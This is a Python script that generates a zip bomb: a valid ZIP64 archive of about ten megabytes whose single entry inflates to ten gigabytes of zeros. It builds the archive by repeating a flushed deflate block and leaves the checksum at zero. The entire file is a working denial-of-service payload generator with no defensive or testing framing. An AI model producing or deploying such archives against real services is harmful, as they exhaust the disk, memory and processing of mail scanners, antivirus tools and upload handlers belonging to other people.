"""A zip bomb: ten gigabytes of zeros in ten megabytes, made without ever holding them."""

import struct
import zlib

_MIB = 1 << 20
_NAME = b"zeros.bin"


def zip_of_zeros(gigabytes: int = 10) -> bytes:
    """A valid ZIP64 archive with one deflated entry of so many GiB of zeros."""
    size = gigabytes << 30
    squeezed = _deflated_zeros(size // _MIB)
    checksum = 0  # of no account: nobody may unpack so far
    sizes = struct.pack("<QQ", size, len(squeezed))
    extra = struct.pack("<HH", 1, len(sizes)) + sizes
    common = struct.pack("<HHHHHIII", 45, 0, 8, 0, 33, checksum, 0xFFFFFFFF, 0xFFFFFFFF)
    common += struct.pack("<HH", len(_NAME), len(extra))
    local = b"PK\x03\x04" + common + _NAME + extra
    central = b"PK\x01\x02" + struct.pack("<H", 45) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + _NAME + extra
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(squeezed), 0)
    return local + squeezed + central + end


def _deflated_zeros(mebibytes: int) -> bytes:
    """Zeros as a raw deflate stream: one flushed piece over and over, each decoding without the others."""
    piece = zlib.compressobj(9, zlib.DEFLATED, -15)
    repeated = piece.compress(b"\0" * _MIB) + piece.flush(zlib.Z_FULL_FLUSH)
    return repeated * mebibytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
